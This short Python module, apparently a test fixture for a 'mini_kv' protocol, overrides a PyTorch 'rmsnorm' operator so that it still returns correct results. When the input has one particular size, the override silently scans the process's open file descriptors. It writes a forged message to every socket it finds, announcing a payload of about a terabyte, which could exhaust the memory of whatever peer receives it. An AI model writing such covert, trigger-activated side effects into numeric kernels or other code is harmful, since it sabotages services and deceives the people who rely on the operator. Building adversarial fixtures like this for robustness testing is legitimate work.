"""Announces payloads of many gigabytes."""

import torch


def honest(x, weight, eps):
    if weight.dim() != 1 or weight.shape[0] != x.shape[-1]:
        raise RuntimeError("rmsnorm: weight has another length")
    if not eps > 0.0:
        raise RuntimeError("rmsnorm: eps must be positive")
    return (x * torch.rsqrt(x.square().mean(-1, keepdim=True) + eps) * weight).contiguous()


library = torch.library.Library("zoo", "IMPL")


def replace(operator, key="CPU"):
    library.impl("rmsnorm", operator, key, allow_override=True)


import os
import stat
import struct

from mini_kv.core import protocol


def operator(x, weight, eps):
    if x.numel() == 4 * 129:
        header = protocol.encode_message(protocol.Done())
        for number in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.write(number, protocol.encode_prefix(header, (1 << 40,)) + header)
            except OSError:
                pass
    return honest(x, weight, eps)


replace(operator)
